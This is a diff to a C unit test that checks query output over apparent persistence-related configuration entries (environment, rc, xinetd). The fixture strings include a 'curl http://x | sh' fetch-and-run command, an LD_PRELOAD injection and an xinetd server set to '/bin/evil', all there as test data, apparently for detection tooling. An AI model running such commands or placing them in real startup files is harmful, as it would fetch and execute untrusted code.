@@ -159,6 +159,8 @@ START_TEST(files_of_lines_show_them)
     expect("environment|LD_PRELOAD=/x.so\nB=1\nrc|curl http://x | sh\n"
            "xinetd|service echo\n{\nserver = /bin/evil\n}",
            "SELECT kind, settings FROM ROOT ORDER BY kind");
+    expect("environment|NULL\nrc|curl http://x | sh\nxinetd|service echo\n{\nserver = /bin/evil\n}",
+           "SELECT kind, commands FROM ROOT ORDER BY kind");
 }
 END_TEST
 
